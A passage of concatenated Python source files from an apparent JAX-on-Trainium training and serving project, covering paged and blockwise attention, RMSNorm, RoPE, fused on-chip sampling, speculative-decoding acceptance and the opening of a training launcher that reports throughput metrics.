bass kernel in pure jax: same online-softmax-across-page-tiles math,
gathers ``page_tile`` blocks at a time instead of the whole table.
It is the CPU stand-in the autotune sweep times and the reference the
parity tests pit against the gathered-copy einsum.

`step_attn_bytes` is the analytic per-step HBM byte model behind
``ko_work_infer_attn_bytes_total{impl}`` and the healthz report: the
gathered-copy path touches every padded page (2·L·B·MB·BS·KV·hd·dtype
for K+V), the kernel only valid ones (Σ_b ceil(valid_b/BS)·BS).
"""

import os

import jax.numpy as jnp

from kubeoperator_trn.ops.attention import NEG_INF

PAGED_ATTN_IMPLS = ("auto", "jax", "bass")


def resolve_paged_attn_impl(explicit: str | None = None) -> str:
    """Resolve the serving attention implementation to "jax" or
    "bass": explicit > KO_PAGED_ATTN_IMPL > autotune-cache hint >
    "auto" (bass iff the concourse toolchain is importable)."""
    impl = explicit
    if impl is None:
        impl = os.environ.get("KO_PAGED_ATTN_IMPL") or None
    if impl is None:
        try:  # a tuned record may pin the impl for this plan
            from kubeoperator_trn.kernels import autotune
            for rec in autotune.load_cache().values():
                if rec.get("kernel") == "paged_attn_bass":
                    hint = rec.get("config", {}).get("impl")
                    if hint:
                        impl = str(hint)
                        break
        except Exception:  # noqa: BLE001 — cache is advisory
            impl = None
    impl = impl if impl is not None else "auto"
    if impl not in PAGED_ATTN_IMPLS:
        raise ValueError(
            f"paged-attn impl {impl!r} not in {PAGED_ATTN_IMPLS}")
    if impl == "auto":
        from kubeoperator_trn.kernels import bass_available
        impl = "bass" if bass_available() else "jax"
    return impl


def paged_attend_blockwise(q, ck, cv, q_pos, n_kv_heads, valid_len,
                           block_tables, page_tile: int = 1):
    """Page-tiled paged attention: q [B,Sq,H,hd] against the pool
    ck/cv [NB,BS,KV,hd] via block_tables [B,MB], gathering only
    ``page_tile`` blocks per step with an online softmax carrying
    (m, l, acc) across tiles — the jax analog of the bass kernel's
    dataflow (the full [B, MB*BS, KV, hd] copy never exists).

    Numerically equivalent to `_attend_cached`'s masked dense softmax:
    masked lanes sit at NEG_INF before the running max, so they
    contribute exact zeros; tile order only reassociates the f32 sums.
    """
    b, sq, h, d = q.shape
    bs, kvh, hd = ck.shape[1:]
    mb = block_tables.shape[1]
    g = h // n_kv_heads
    qp = q_pos if q_pos.ndim == 2 else jnp.broadcast_to(
        q_pos[None], (b, sq))
    bound = jnp.minimum(qp, valid_len[:, None] - 1)       # [B, Sq]
    qg = q.reshape(b, sq, n_kv_heads, g, d)
    scale = 1.0 / (d ** 0.5)

    m = jnp.full((b, n_kv_heads, g, sq), -jnp.inf, jnp.float32)
    l = jnp.zeros((b, n_kv_heads, g, sq), jnp.float32)
    acc = jnp.zeros((b, n_kv_heads, g, sq, d), jnp.float32)
    for p0 in range(0, mb, page_tile):
        pw = min(page_tile, mb - p0)
        tiles = block_tables[:, p0:p0 + pw]               # [B, pw]
        kt = ck[tiles].reshape(b, pw * bs, kvh, hd)
        vt = cv[tiles].reshape(b, pw * bs, kvh, hd)
        t_pos = p0 * bs + jnp.arange(pw * bs)             # global pos
        s = jnp.einsum("bqgrd,bkgd->bgrqk", qg, kt,
                       preferred_element_type=jnp.float32) * scale
        keep = t_pos[None, None, :] <= bound[:, :, None]  # [B,Sq,T]
        s = jnp.where(keep[:, None, None], s, NEG_INF)
        m_new = jnp.maximum(m, jnp.max(s, axis=-1))
        corr = jnp.exp(m - m_new)
        p = jnp.exp(s - m_new[..., None])
        l = l * corr + jnp.sum(p, axis=-1)
        pv = jnp.einsum("bgrqk,bkgd->bgrqd", p.astype(vt.dtype), vt)
        acc = acc * corr[..., None] + pv
        m = m_new
    out = acc / jnp.maximum(l, 1e-30)[..., None]          # [B,KV,G,Sq,hd]
    out = jnp.transpose(out, (0, 3, 1, 2, 4)).reshape(b, sq, h, d)
    return out.astype(cv.dtype)


def step_attn_bytes(n_layers: int, valid_lens, max_blocks: int,
                    block_size: int, n_kv_heads: int, head_dim: int,
                    dtype_bytes: int, impl: str) -> int:
    """Analytic KV-pool HBM bytes one decode/verify step reads for
    attention.  ``jax`` pays the gathered copy over every padded page
    of every slot; ``bass`` reads only pages below ceil(valid/BS).
    K and V both move, hence the factor 2.  valid_lens: iterable of
    per-slot attention bounds (0 = empty slot)."""
    line = n_kv_heads * head_dim * dtype_bytes
    total_slots = 0
    valid_pages = 0
    for vl in valid_lens:
        total_slots += 1
        vl = int(vl)
        if vl > 0:
            valid_pages += -(-vl // block_size)
    if impl == "bass":
        tokens = valid_pages * block_size
    else:
        tokens = total_slots * max_blocks * block_size
    return 2 * n_layers * tokens * line
