"""Normalization ops.

trn2 note: RMSNorm is VectorE/ScalarE work (mean-of-squares on VectorE,
rsqrt on ScalarE); XLA fuses this fine on Neuron, so the default path is
plain jnp.  A BASS tile kernel slot exists in ``kernels/`` for when the
norm sits on the critical path between matmuls.
"""

import jax
import jax.numpy as jnp


def rms_norm(x: jax.Array, scale: jax.Array, eps: float = 1e-5) -> jax.Array:
    """Llama-style RMSNorm: x * rsqrt(mean(x^2) + eps) * scale.

    Statistics in float32 regardless of input dtype; output in input dtype.
    """
    dtype = x.dtype
    x32 = x.astype(jnp.float32)
    var = jnp.mean(jnp.square(x32), axis=-1, keepdims=True)
    y = x32 * jax.lax.rsqrt(var + eps)
    return (y * scale.astype(jnp.float32)).astype(dtype)
