"""On-chip sampling: implementation resolution + vocab-tiled twin.

The serving samplers (greedy argmax, temperature, top-k) historically
ran on the host: every decode tick shipped the full ``[slots, V]`` f32
logits device→host (`scheduler._decode` → ``np.asarray(logits)``) for
a result that fits in two scalars per slot.  The fused sampling plane
returns token ids from the same jitted dispatch that produced the
logits.  Two implementations exist:

  - ``jax`` — `sample_blockwise` below: the pure-jax vocab-tile walk,
    structurally the bass kernel's dataflow (per-tile max + first-index
    argmax, strictly-greater cross-tile adoption, online logsumexp).
    The parity reference and CPU fallback.
  - ``bass`` — `kernels.sample_bass`: the same walk on NeuronCore
    engines; only ``[S, 2]`` scalars ever cross device→host.

`resolve_sample_impl` mirrors `resolve_paged_attn_impl`'s precedence
(explicit > KO_SAMPLE_IMPL env > autotune-cache hint > "auto", where
auto picks bass iff concourse imports) — the serving engine resolves
once at init and logs the choice, never per dispatch.

Sampling math is arranged so the fused path is *bitwise* the legacy
host path under the same key chain:

  - ``argmax(logits/T + gumbel(key, (V,)))`` is exactly
    ``jax.random.categorical(key, logits/T)`` (same formula inside
    jax) — the Gumbel rows are pre-computed jax-side and fed to the
    kernel as an additive input.
  - the top-k threshold is the k-th largest scaled value per row
    (``lax.top_k``, bitwise ``jnp.sort(...)[..., -k]``), and the
    additive mask ``x + (keep - 1) * 1e30`` equals the legacy
    ``jnp.where(scaled < thresh, NEG_INF, scaled)`` through f32
    absorption (``x - 1e30 == -1e30`` exactly for every real logit).

`step_sample_bytes` is the analytic device→host byte model behind
``ko_work_infer_sample_bytes_total{impl}`` and the healthz ``sample``
report: the legacy path ships ``rows * V * 4`` logits bytes per tick,
the fused path ``rows * 2 * 4`` result scalars.
"""

import os

import jax
import jax.numpy as jnp

from kubeoperator_trn.ops.attention import NEG_INF

SAMPLE_IMPLS = ("auto", "jax", "bass")

#: additive mask magnitude; matches the bass kernel and NEG_INF so the
#: masked lanes land on exactly -1e30
_MASK = 1.0e30


def sample_fused_enabled() -> bool:
    """Fused on-chip sampling toggle: KO_SAMPLE_FUSED=0 is the
    exact-legacy escape hatch (host-side argmax/categorical on shipped
    logits rows); anything else keeps the fused dispatch."""
    return os.environ.get("KO_SAMPLE_FUSED", "1") != "0"


def resolve_sample_impl(explicit: str | None = None) -> str:
    """Resolve the sampling implementation to "jax" or "bass":
    explicit > KO_SAMPLE_IMPL > autotune-cache hint > "auto" (bass iff
    the concourse toolchain is importable)."""
    impl = explicit
    if impl is None:
        impl = os.environ.get("KO_SAMPLE_IMPL") or None
    if impl is None:
        try:  # a tuned record may pin the impl for this plan
            from kubeoperator_trn.kernels import autotune
            for rec in autotune.load_cache().values():
                if rec.get("kernel") == "sample_bass":
                    hint = rec.get("config", {}).get("impl")
                    if hint:
                        impl = str(hint)
                        break
        except Exception:  # noqa: BLE001 — cache is advisory
            impl = None
    impl = impl if impl is not None else "auto"
    if impl not in SAMPLE_IMPLS:
        raise ValueError(f"sample impl {impl!r} not in {SAMPLE_IMPLS}")
    if impl == "auto":
        from kubeoperator_trn.kernels import bass_available
        impl = "bass" if bass_available() else "jax"
    return impl


def topk_threshold(scaled: jax.Array, k: int) -> jax.Array:
    """k-th-largest value per row: ``lax.top_k`` (O(V log k)) replacing
    the legacy full ``jnp.sort`` (O(V log V)); bitwise
    ``jnp.sort(scaled, axis=-1)[..., -k][..., None]``."""
    return jax.lax.top_k(scaled, k)[0][..., -1][..., None]


def row_thresholds(scaled: jax.Array, top_ks: jax.Array,
                   tk_cap: int) -> jax.Array:
    """Per-row top-k thresholds under one static cap so mixed-k
    batches share a compiled shape.  scaled [S, V], top_ks [S] i32
    (0 = top-k off) -> [S, 1] f32 thresholds (NEG_INF where off, so
    the additive mask keeps every lane).

    ``tk_cap`` comes from ``engine.bucket_len`` over the batch's max k
    (clipped to V), so ``clip(k, 1, cap)`` never truncates an active
    request; k > V degenerates to the row minimum — keep-everything,
    matching the legacy clamped ``sort[..., -k]`` index."""
    vals = jax.lax.top_k(scaled, tk_cap)[0]               # [S, cap] desc
    idx = jnp.clip(top_ks, 1, tk_cap) - 1
    thr = jnp.take_along_axis(vals, idx[:, None], axis=-1)
    return jnp.where((top_ks > 0)[:, None], thr,
                     jnp.float32(NEG_INF))


def sample_blockwise(scaled: jax.Array, thresh: jax.Array,
                     noise: jax.Array | None, vt: int):
    """Vocab-tile-walk sampler: scaled [S, V] f32 (already divided by
    temperature), thresh [S, 1] top-k thresholds (NEG_INF = off),
    noise [S, V] additive Gumbel rows or None -> (token [S] i32,
    logprob [S] f32) — the pure-jax twin of ``kernels.sample_bass``.

    Walks ``vt``-wide tiles with a running (max, argmax, exp-sum)
    carried across tiles: per-tile first-index argmax, adopted only on
    a strictly greater max (lowest-index global ties, jnp.argmax
    semantics), exp-sum rescaled by ``exp(old_max - new_max)``.  The
    tile walk only reassociates the f32 logsumexp; the token choice is
    bitwise ``jnp.argmax`` of the same masked+noised scores.
    """
    s, v = scaled.shape
    vt = max(1, min(int(vt), v))
    keep = (scaled >= thresh).astype(jnp.float32)
    x = scaled + (keep - 1.0) * jnp.float32(_MASK)
    if noise is not None:
        x = x + noise
    gmax = jnp.full((s,), -jnp.inf, jnp.float32)
    gidx = jnp.zeros((s,), jnp.int32)
    gsum = jnp.zeros((s,), jnp.float32)
    for v0 in range(0, v, vt):
        xt = x[:, v0:v0 + vt]
        tmax = jnp.max(xt, axis=-1)
        tidx = jnp.argmax(xt, axis=-1).astype(jnp.int32) + v0
        better = tmax > gmax
        gidx = jnp.where(better, tidx, gidx)
        nmax = jnp.maximum(gmax, tmax)
        gsum = gsum * jnp.exp(gmax - nmax) + jnp.sum(
            jnp.exp(xt - nmax[:, None]), axis=-1)
        gmax = nmax
    return gidx, -jnp.log(gsum)


def sample_rows(logits: jax.Array, temps: jax.Array, top_ks: jax.Array,
                noise: jax.Array | None, tk_cap: int, impl: str = "jax",
                vt: int | None = None, has_topk: bool = True):
    """Fused row sampler: logits [S, V], temps [S] f32 (<= 0 = greedy),
    top_ks [S] i32 (0 = off), noise [S, V] Gumbel rows or None (None
    for all-greedy batches), static tk_cap -> (token [S] i32,
    logprob [S] f32).

    Greedy rows ride with temperature 1 (argmax is scale-invariant and
    noise rows are zero there, see `engine._gumbel_rows`).  The jax
    path divides (bitwise the legacy host sampler); the bass path
    multiplies by the reciprocal on-chip (ScalarE) — ≤ 1 ulp apart,
    exact for power-of-two temperatures.  Traceable; jitted by
    `engine.paged_sample_jits_for`.

    ``has_topk`` is static, the top-k twin of ``need_noise``: when the
    caller knows no active row uses top-k (every threshold would
    resolve to NEG_INF anyway) the O(S·V) ``lax.top_k`` threshold
    computation is skipped entirely instead of riding every dispatch.
    """
    s, v = logits.shape
    logits = logits.astype(jnp.float32)
    tuse = jnp.where(temps > 0.0, temps, 1.0).astype(jnp.float32)
    off_thr = jnp.full((s, 1), NEG_INF, jnp.float32)
    if impl == "bass":
        from kubeoperator_trn.kernels import sample_bass
        inv_t = (1.0 / tuse)[:, None]
        thr = row_thresholds(logits * inv_t, top_ks, tk_cap) \
            if has_topk else off_thr
        return sample_bass.sample_bass(logits, inv_t, thr, noise, vt)
    scaled = logits / tuse[:, None]
    thr = row_thresholds(scaled, top_ks, tk_cap) if has_topk else off_thr
    if vt is None:
        from kubeoperator_trn.kernels import sample_bass
        vt = sample_bass.resolve_vt(v)
    return sample_blockwise(scaled, thr, noise, vt)


def step_sample_bytes(rows: int, vocab: int, fused: bool) -> int:
    """Device→host bytes one sampling step ships: the legacy path
    transfers the full f32 logits rows, the fused path only the
    [rows, 2] (token id, logprob) result."""
    if fused:
        return int(rows) * 2 * 4
    return int(rows) * int(vocab) * 4
