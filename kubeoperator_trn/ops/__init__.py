from kubeoperator_trn.ops.norms import rms_norm
from kubeoperator_trn.ops.rope import rope_table, apply_rope
from kubeoperator_trn.ops.attention import causal_attention
from kubeoperator_trn.ops.losses import (
    chunked_cross_entropy,
    chunked_nll,
    cross_entropy_loss,
    resolve_ce_chunk,
)

__all__ = [
    "rms_norm",
    "rope_table",
    "apply_rope",
    "causal_attention",
    "cross_entropy_loss",
    "chunked_cross_entropy",
    "chunked_nll",
    "resolve_ce_chunk",
]
