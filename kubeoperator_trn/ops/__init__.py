from kubeoperator_trn.ops.norms import rms_norm
from kubeoperator_trn.ops.rope import rope_table, apply_rope
from kubeoperator_trn.ops.attention import causal_attention
from kubeoperator_trn.ops.losses import (
    chunked_cross_entropy,
    chunked_nll,
    cross_entropy_loss,
    resolve_ce_chunk,
)
from kubeoperator_trn.ops.specdec import (
    get_spec_accept_fn,
    resolve_spec_impl,
    spec_accept_ref,
)
from kubeoperator_trn.ops.paged_attn import (
    paged_attend_blockwise,
    resolve_paged_attn_impl,
    step_attn_bytes,
)

__all__ = [
    "get_spec_accept_fn",
    "resolve_spec_impl",
    "spec_accept_ref",
    "paged_attend_blockwise",
    "resolve_paged_attn_impl",
    "step_attn_bytes",
    "rms_norm",
    "rope_table",
    "apply_rope",
    "causal_attention",
    "cross_entropy_loss",
    "chunked_cross_entropy",
    "chunked_nll",
    "resolve_ce_chunk",
]
