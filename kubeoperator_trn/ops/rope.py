"""Rotary position embeddings (half-split / NeoX convention).

Tables are precomputed in float32 once per model call; the apply is pure
VectorE work (mul/add) so XLA handles it.  Positions are global sequence
indices — under sequence parallelism the activation is sharded on the seq
axis and XLA shards the gathered table consistently.
"""

import jax
import jax.numpy as jnp


def rope_table(seq_len: int, head_dim: int, theta: float = 500000.0):
    """Returns (cos, sin), each [seq_len, head_dim//2], float32."""
    half = head_dim // 2
    freqs = 1.0 / (theta ** (jnp.arange(0, half, dtype=jnp.float32) / half))
    pos = jnp.arange(seq_len, dtype=jnp.float32)
    angles = jnp.outer(pos, freqs)  # [S, half]
    return jnp.cos(angles), jnp.sin(angles)


def apply_rope(x: jax.Array, cos: jax.Array, sin: jax.Array) -> jax.Array:
    """Rotate x [..., S, H, D] by position tables cos/sin [S, D//2].

    Half-split convention: pairs are (x[..., :D/2], x[..., D/2:]).
    """
    dtype = x.dtype
    half = x.shape[-1] // 2
    x1 = x[..., :half].astype(jnp.float32)
    x2 = x[..., half:].astype(jnp.float32)
    # cos/sin: [S, half] -> broadcast over batch and heads: [S, 1, half]
    c = cos[:, None, :]
    s = sin[:, None, :]
    y1 = x1 * c - x2 * s
    y2 = x2 * c + x1 * s
    return jnp.concatenate([y1, y2], axis=-1).astype(dtype)
