"""Speculative-decoding accept op: greedy draft verification.

The scheduler's draft–verify loop (infer/specdec.py, ISSUE 16) feeds
each decode slot its pending token plus up to k drafted tokens through
one batched verify dispatch, then needs exactly two scalars per slot
back: how many drafts the model agrees with, and the model's own token
at the first disagreement (the "bonus" token — also the token that
makes a fully-rejected iteration equal to one plain decode step).

Greedy acceptance: draft ``d_{i+1}`` is accepted iff
``argmax(logits[:, i]) == d_{i+1}`` and every earlier draft was
accepted.  At temperature 0 this is *exact*: the committed stream is
token-for-token the sequence non-speculative decode would have
produced, because every accepted draft IS the argmax and the bonus
token is the argmax after the last accepted position.

Two implementations behind ``resolve_spec_impl`` (same shape as
``KO_ATTN_IMPL``):
  jax  — this module's reference, jitted; ships the [S, K+1, V] logits
         through XLA argmax (CPU parity / fallback path);
  bass — kernels/spec_verify_bass.py runs the argmax + accept scan
         on-chip and returns only [S, 2] scalars, so verify logits
         never cross device→host (the point of the kernel).
``auto`` picks bass when concourse is importable, else jax.

Draft rows are padded with ``PAD_ID`` (-1, never a vocab id), which
makes truncation self-enforcing: the padded position can never match
the argmax, so ``accept_len`` is automatically capped at the real
draft count — callers never clamp.
"""

import os

import jax
import jax.numpy as jnp

#: draft-row padding — compares unequal to every vocab id, so padded
#: lanes terminate the cumulative accept scan by construction
PAD_ID = -1

SPEC_IMPLS = ("auto", "jax", "bass")


def resolve_spec_impl(explicit=None) -> str:
    """Resolve the verify/accept implementation.

    Precedence mirrors ``resolve_attn_impl``: explicit > ``KO_INFER_SPEC_IMPL``
    env > "auto".  "auto" resolves to "bass" when the concourse toolchain
    is importable, "jax" otherwise — so CPU CI and neuron hosts run the
    same call sites.
    """
    if explicit is None:
        explicit = os.environ.get("KO_INFER_SPEC_IMPL") or None
    impl = explicit if explicit is not None else "auto"
    if impl not in SPEC_IMPLS:
        raise ValueError(
            f"spec impl must be one of {SPEC_IMPLS}, got {impl!r}")
    if impl == "auto":
        from kubeoperator_trn.kernels import bass_available
        impl = "bass" if bass_available() else "jax"
    return impl


def spec_accept_ref(logits, draft_ids):
    """Reference greedy accept.  logits [S, K+1, V] f32 (position i is
    the distribution *after* fed token i), draft_ids [S, K+1] int32
    (column j holds draft j+1; PAD_ID beyond the real draft count; the
    last column is always padding) -> (accept_len [S] int32 in [0, K],
    bonus [S] int32 — the model's token at position accept_len).

    Ties break to the lowest vocab id (jnp.argmax), which the BASS
    kernel replicates (min-index over max-valued lanes) so the two
    implementations commit identical streams.
    """
    greedy = jnp.argmax(logits, axis=-1).astype(jnp.int32)     # [S, K+1]
    k = greedy.shape[1] - 1
    match = greedy[:, :k] == draft_ids[:, :k]                  # [S, K]
    acc = jnp.cumprod(match.astype(jnp.int32), axis=1)
    accept_len = jnp.sum(acc, axis=1).astype(jnp.int32)        # [S]
    bonus = jnp.take_along_axis(greedy, accept_len[:, None], axis=1)[:, 0]
    return accept_len, bonus


_spec_accept_jit = jax.jit(spec_accept_ref)


def get_spec_accept_fn(impl=None):
    """Return ``accept(logits [S,K+1,V], draft_ids [S,K+1]) ->
    (accept_len [S], bonus [S])`` for a resolved implementation."""
    impl = resolve_spec_impl(impl)
    if impl == "bass":
        from kubeoperator_trn.kernels.spec_verify_bass import spec_accept_bass
        return spec_accept_bass
    return _spec_accept_jit
