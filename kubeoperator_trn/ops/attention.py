"""Attention ops (GQA, causal) — XLA path.

Design notes (trn2-first):
  - Scores/softmax in float32 (ScalarE exp via LUT); matmul inputs stay in
    the compute dtype (bf16) so TensorE runs at full rate.
  - GQA is expressed by grouping the query heads over the KV heads in the
    einsum rather than materializing repeated K/V — keeps HBM traffic at
    the GQA level.
  - The masked-softmax uses a large-negative fill (not -inf) so fully
    masked rows (which arise in ring-attention partial blocks) stay finite.
  - The ring/sequence-parallel variant lives in
    ``kubeoperator_trn.parallel.ring_attention`` and reuses the block
    kernel here.
"""

import functools
import os

import jax
import jax.numpy as jnp

NEG_INF = -1e30

#: Selectable attention implementations (``LlamaConfig.attn_impl`` /
#: ``KO_ATTN_IMPL`` / ``KO_BENCH_ATTN``):
#:   dense     — materialize [B,KV,G,Sq,Sk] scores (reference; O(S^2) HBM)
#:   blockwise — pure-JAX flash-style tiling (XLA; CPU parity reference)
#:   nki       — fused NKI kernel, blockwise fallback off-neuron
ATTN_IMPLS = ("dense", "blockwise", "nki")


def resolve_attn_impl(explicit=None) -> str:
    """Resolve the attention implementation.

    Precedence mirrors ``resolve_ce_chunk``: explicit (config) >
    ``KO_ATTN_IMPL`` env > default ("blockwise").
    """
    if explicit is None:
        explicit = os.environ.get("KO_ATTN_IMPL") or None
    impl = explicit if explicit is not None else "blockwise"
    if impl not in ATTN_IMPLS:
        raise ValueError(f"attn_impl must be one of {ATTN_IMPLS}, got {impl!r}")
    return impl


def get_attention_fn(impl=None, *, block_size: int = 128):
    """Return ``attn_fn(q, k, v) -> out`` for a resolved implementation.

    The returned callable has the plain (q, k, v) signature the model
    layers expect; block size is bound here.  "nki" returns the fused
    custom-VJP path (NKI forward on neuron, blockwise XLA fallback
    elsewhere — same code shape either way, so CPU parity runs cover it).
    """
    impl = resolve_attn_impl(impl)
    if impl == "dense":
        return causal_attention
    if impl == "nki":
        from kubeoperator_trn.kernels.attention_nki import fused_causal_attention
        return functools.partial(fused_causal_attention, block_size=block_size)
    return functools.partial(blockwise_causal_attention, block_size=block_size)


def _group_queries(q: jax.Array, n_kv_heads: int) -> jax.Array:
    """[B, Sq, H, D] -> [B, Sq, KV, H//KV, D]."""
    b, sq, h, d = q.shape
    return q.reshape(b, sq, n_kv_heads, h // n_kv_heads, d)


def attention_scores(q: jax.Array, k: jax.Array, n_kv_heads: int) -> jax.Array:
    """Raw scaled scores.  q [B,Sq,H,D], k [B,Sk,KV,D] -> [B,KV,G,Sq,Sk]."""
    d = q.shape[-1]
    qg = _group_queries(q, n_kv_heads)
    scale = 1.0 / (d ** 0.5)
    scores = jnp.einsum("bqgrd,bkgd->bgrqk", qg, k, preferred_element_type=jnp.float32)
    return scores * scale


def causal_mask(sq: int, sk: int, q_offset=0, kv_offset=0) -> jax.Array:
    """Boolean [Sq, Sk]; True where position (iq) may attend to (ik).

    Offsets are *global* sequence offsets of the local q / kv blocks —
    this is what lets ring attention reuse the same mask builder.
    """
    iq = jnp.arange(sq)[:, None] + q_offset
    ik = jnp.arange(sk)[None, :] + kv_offset
    return iq >= ik


def causal_attention(
    q: jax.Array,
    k: jax.Array,
    v: jax.Array,
    *,
    q_offset=0,
    kv_offset=0,
) -> jax.Array:
    """Dense causal GQA attention.

    q: [B, Sq, H, D]; k, v: [B, Sk, KV, D].  Returns [B, Sq, H, D] in q's
    dtype.  Softmax in float32.
    """
    b, sq, h, d = q.shape
    n_kv = k.shape[2]
    scores = attention_scores(q, k, n_kv)  # [B,KV,G,Sq,Sk] f32
    mask = causal_mask(sq, k.shape[1], q_offset, kv_offset)
    scores = jnp.where(mask[None, None, None], scores, NEG_INF)
    probs = jax.nn.softmax(scores, axis=-1)
    out = jnp.einsum("bgrqk,bkgd->bqgrd", probs.astype(v.dtype), v)
    return out.reshape(b, sq, h, d)


def blockwise_causal_attention(q, k, v, *, block_size: int = 128):
    """Flash-style blockwise causal GQA attention.

    Outer lax.scan over q blocks, inner lax.scan over kv blocks with the
    online-softmax accumulator — each block softmax stays at
    [.., block, block], which (a) keeps SBUF working sets small and (b)
    avoids the long-sequence dense-softmax pattern that crashes the
    neuron runtime (seq>=512 'worker hung up', bisected 2026-08-03).
    Future KV blocks (ki > qi) are skipped with lax.cond — they are
    fully masked, so skipping both saves ~half the attention FLOPs at
    long sequence and removes any reliance on exp(NEG_INF) underflow or
    KV-block visit order for correctness.  (cond, not while_loop: the
    path must stay reverse-mode differentiable for training.)
    """
    b, s, h, d = q.shape
    n_kv = k.shape[2]
    if s <= block_size:
        return causal_attention(q, k, v)
    if s % block_size:
        # Ragged tail: zero-pad S up to a block multiple.  Causality makes
        # this exact — real queries (i < s) never attend to padded KV
        # (j >= s > i), and padded query rows are sliced off below (their
        # denominator is clamped in online_finish, so they stay finite).
        pad = block_size - s % block_size
        padded = jnp.pad(q, ((0, 0), (0, pad), (0, 0), (0, 0)))
        kp = jnp.pad(k, ((0, 0), (0, pad), (0, 0), (0, 0)))
        vp = jnp.pad(v, ((0, 0), (0, pad), (0, 0), (0, 0)))
        out = blockwise_causal_attention(padded, kp, vp, block_size=block_size)
        return out[:, :s]
    nb = s // block_size

    qb = q.reshape(b, nb, block_size, h, d).transpose(1, 0, 2, 3, 4)
    kb = k.reshape(b, nb, block_size, n_kv, d).transpose(1, 0, 2, 3, 4)
    vb = v.reshape(b, nb, block_size, n_kv, d).transpose(1, 0, 2, 3, 4)

    def q_block(_, qi_and_block):
        qi, qblk = qi_and_block

        def kv_block(state, ki_and_kv):
            ki, kblk, vblk = ki_and_kv

            def attend():
                m, l, acc = state
                return attention_block_online(
                    qblk, kblk, vblk, m, l, acc,
                    q_offset=qi * block_size, kv_offset=ki * block_size,
                    n_kv_heads=n_kv,
                )

            # thunk-style cond (no operands): the image's trn fixup
            # rebinds jax.lax.cond to a 3-arg form; closures capture
            # the state either way.
            state = jax.lax.cond(ki <= qi, attend, lambda: state)
            return state, None

        state = online_init(b, block_size, h, d, n_kv)
        state, _ = jax.lax.scan(
            kv_block, state, (jnp.arange(nb), kb, vb)
        )
        return None, online_finish(*state, qb.dtype)

    _, out = jax.lax.scan(q_block, None, (jnp.arange(nb), qb))
    # out [nb, B, block, H, D] -> [B, S, H, D]
    return out.transpose(1, 0, 2, 3, 4).reshape(b, s, h, d)


def attention_block_online(q, k, v, m, l, acc, *, q_offset, kv_offset, n_kv_heads):
    """One online-softmax accumulation step over a KV block.

    Used by ring attention.  State:
      m   [B,KV,G,Sq]    running row max (f32)
      l   [B,KV,G,Sq]    running row sum of exp (f32)
      acc [B,Sq,KV,G,D]  running unnormalized output (f32)
    Returns updated (m, l, acc).
    """
    sq, sk = q.shape[1], k.shape[1]
    scores = attention_scores(q, k, n_kv_heads)  # [B,KV,G,Sq,Sk]
    mask = causal_mask(sq, sk, q_offset, kv_offset)
    scores = jnp.where(mask[None, None, None], scores, NEG_INF)
    m_new = jnp.maximum(m, jnp.max(scores, axis=-1))
    corr = jnp.exp(m - m_new)  # [B,KV,G,Sq]
    p = jnp.exp(scores - m_new[..., None])  # [B,KV,G,Sq,Sk]
    l_new = l * corr + jnp.sum(p, axis=-1)
    pv = jnp.einsum("bgrqk,bkgd->bqgrd", p.astype(v.dtype), v).astype(jnp.float32)
    acc_new = acc * jnp.moveaxis(corr, 3, 1)[..., None] + pv
    return m_new, l_new, acc_new


def online_init(b, sq, h, d, n_kv_heads):
    g = h // n_kv_heads
    m = jnp.full((b, n_kv_heads, g, sq), NEG_INF, dtype=jnp.float32)
    l = jnp.zeros((b, n_kv_heads, g, sq), dtype=jnp.float32)
    acc = jnp.zeros((b, sq, n_kv_heads, g, d), dtype=jnp.float32)
    return m, l, acc


def online_finish(m, l, acc, dtype):
    """Normalize accumulated output: [B,Sq,KV,G,D] -> [B,Sq,H,D]."""
    b, sq, kv, g, d = acc.shape
    denom = jnp.moveaxis(l, 3, 1)[..., None]  # [B,Sq,KV,G,1]
    denom = jnp.maximum(denom, 1e-30)
    out = (acc / denom).astype(dtype)
    return out.reshape(b, sq, kv * g, d)
