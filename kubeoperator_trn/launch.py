"""In-pod training launcher: `python -m kubeoperator_trn.launch`.

The app templates (cluster/apps.py) render Jobs whose containers run
this module.  It reads the KO_* env contract, builds the mesh from the
template's plan, restores the latest checkpoint if present, and runs the
training loop with periodic checkpointing — the resume path is just
"start the same Job again".
"""

import os
import signal as signal_mod
import sys
import time


def env(name, default):
    return os.environ.get(name, default)


_report_failures = 0


def report_throughput(url: str, node: str, tokens_per_s: float,
                      flops_per_token: float, n_cores: int, loss: float):
    """POST job throughput to the control plane's /monitor/report — this
    feeds the ko_job_mfu gauge behind the Grafana MFU panel.  Fired on a
    daemon thread so training never blocks on monitoring (a hanging DNS
    lookup would otherwise stall the step loop); after 3 consecutive
    failures reporting disables itself for the run."""
    import json
    import threading
    import urllib.request

    global _report_failures
    if _report_failures >= 3:
        return
    body = json.dumps({
        "node": node,
        "sample": {"job": {
            "tokens_per_s": tokens_per_s,
            "flops_per_token": flops_per_token,
            "n_cores": n_cores,
            "loss": loss,
        }},
    }).encode()

    def post():
        global _report_failures
        try:
            req = urllib.request.Request(
                url.rstrip("/") + "/monitor/report", data=body,
                headers={"Content-Type": "application/json"}, method="POST",
            )
            with urllib.request.urlopen(req, timeout=2.0):
                pass
            _report_failures = 0
        except Exception:
            _report_failures += 1

    threading.Thread(target=post, daemon=True).start()


def init_distributed():
    """Multi-host mesh formation (SURVEY §2.3 comm backend / §5.8).

    The Indexed Job template sets KO_NUM_PROCESSES (completions),
    KO_PROCESS_ID (JOB_COMPLETION_INDEX) and KO_COORDINATOR (rank-0
    pod's stable DNS via the headless subdomain).  Must run before any
    jax backend use; after it, jax.devices() spans every process and
    the XLA collectives (lowered to Neuron cc over NeuronLink/EFA) are
    global."""
    n = int(env("KO_NUM_PROCESSES", "1"))
    if n <= 1:
        return
    import jax

    # KO_PROCESS_ID override, else the JOB_COMPLETION_INDEX k8s injects
    # for Indexed Jobs
    pid = env("KO_PROCESS_ID", "") or env("JOB_COMPLETION_INDEX", "0")
    jax.distributed.initialize(
        coordinator_address=env("KO_COORDINATOR", "127.0.0.1:12321"),
        num_processes=n,
        process_id=int(pid),
    )


def main():
    init_distributed()

    import jax
    import jax.numpy as jnp

    import numpy as np

    from kubeoperator_trn.models import llama
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh, auto_plan
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.train_step import (
        make_multi_step,
        make_train_step,
        resolve_steps_per_call,
        superbatch_spec,
        TrainStepConfig,
    )
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train import checkpoint as ckpt
    from kubeoperator_trn.train import elastic
    from kubeoperator_trn.train.data import (
        DevicePrefetcher,
        stack_batches,
